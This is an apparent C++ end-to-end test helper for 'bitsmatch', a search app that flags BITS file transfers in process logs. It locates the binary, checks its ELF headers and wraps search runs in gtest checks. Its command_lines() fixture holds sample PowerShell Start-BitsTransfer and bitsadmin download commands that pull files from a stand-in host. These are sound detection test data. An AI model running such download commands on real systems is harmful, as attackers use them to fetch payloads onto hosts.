#include "e2e/app.h"

#include <elf.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <cstring>
#include <utility>

#include "support/table_file.h"

namespace e2e {
namespace {

constexpr const char* kProgram = "linux_x86_64/bin/bitsmatch";

std::filesystem::path app_directory() {
  const char* directory = std::getenv("BITSMATCH_APP");
  return directory == nullptr ? "" : directory;
}

}  // namespace

Program packaged_program() { return {(app_directory() / kProgram).string()}; }

bool is_release() {
  const auto program = search_head::read_file(packaged_program().path);
  if (!program || program->size() < sizeof(Elf64_Ehdr)) return false;
  Elf64_Ehdr header;
  std::memcpy(&header, program->data(), sizeof header);
  for (std::size_t i = 0; i < header.e_phnum; ++i) {
    Elf64_Phdr segment;
    const std::size_t at = header.e_phoff + i * header.e_phentsize;
    if (at + sizeof segment > program->size()) return false;
    std::memcpy(&segment, program->data() + at, sizeof segment);
    if (segment.p_type == PT_INTERP) return false;
  }
  return true;
}

std::string matching_only(const std::string& arguments) {
  const bool speaks_of_it =
      arguments.find("decode") != std::string::npos || arguments.find("facts") != std::string::npos;
  if (speaks_of_it) return arguments;
  return (arguments.empty() ? "" : arguments + " ") + "decode=false facts=false";
}

Outcome bitsmatch(const std::string& arguments, const Table& rows, Search how,
                  const Program& program) {
  return bitsmatch_in_full(matching_only(arguments), rows, std::move(how), program);
}

Outcome bitsmatch_in_full(const std::string& arguments, const Table& rows, Search how,
                          const Program& program) {
  if (!how.exact) how.arguments = arguments;
  Outcome outcome = run_search(program, how, rows);
  EXPECT_TRUE(outcome.clean()) << "| bitsmatch " << arguments << '\n' << outcome;
  return outcome;
}

std::string failure_of(const std::string& arguments, Search how, const Program& program) {
  if (!how.exact) how.arguments = arguments;
  const Outcome outcome = run_search(program, how, command_lines());
  EXPECT_TRUE(outcome.violations.empty()) << "| bitsmatch " << arguments << '\n' << outcome;
  EXPECT_TRUE(outcome.error) << "| bitsmatch " << arguments << " did not fail\n" << outcome;
  EXPECT_TRUE(outcome.chunks.empty()) << "rows came before the error";
  return outcome.error.value_or("");
}

Table command_lines() {
  return {{"host", "process"},
          {{"a", "powershell.exe -c \"Start-BitsTransfer http://a.example/x C:\\x\""},
           {"b", "cmd.exe /c dir"},
           {"c", "bitsadmin.exe /transfer job http://a.example/y C:\\y"},
           {"d", "notepad.exe"}}};
}

Table sample(const std::string& name) {
  auto table = search_head::read_table((app_directory() / "samples" / name).string());
  EXPECT_TRUE(table) << table.error();
  return table ? std::move(*table) : Table{};
}

AppCopy::AppCopy() {
  const auto program = directory_.path() / "bitsmatch" / kProgram;
  std::filesystem::create_directories(program.parent_path());
  std::filesystem::copy_file(app_directory() / kProgram, program);
  std::filesystem::create_directory(directory_.path() / "bitsmatch" / "lookups");
}

void AppCopy::add_lookup(const std::string& name, std::string_view content) {
  directory_.file("bitsmatch/lookups/" + name, content);
}

Program AppCopy::program() const { return {(directory_.path() / "bitsmatch" / kProgram).string()}; }

}  // namespace e2e
